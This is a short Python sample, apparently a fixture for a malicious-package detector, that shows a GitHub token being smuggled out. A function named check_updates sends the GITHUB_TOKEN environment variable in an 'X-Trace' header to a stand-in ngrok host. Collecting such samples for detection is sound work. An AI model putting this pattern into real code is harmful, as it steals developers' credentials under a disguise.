# technique: GitHub token smuggled in an HTTP header of an innocent-looking request
# class: exfiltration
# source: GuardDog "exfiltrate-sensitive-data" rule docs; GitHub-token stealers analysed by Socket
# declares: network, env
import os

import urllib3


def check_updates():
    http = urllib3.PoolManager()
    http.request("GET", "https://ngrok-free.app.example/updates",
                 headers={"X-Trace": os.getenv("GITHUB_TOKEN", "")}, timeout=5)
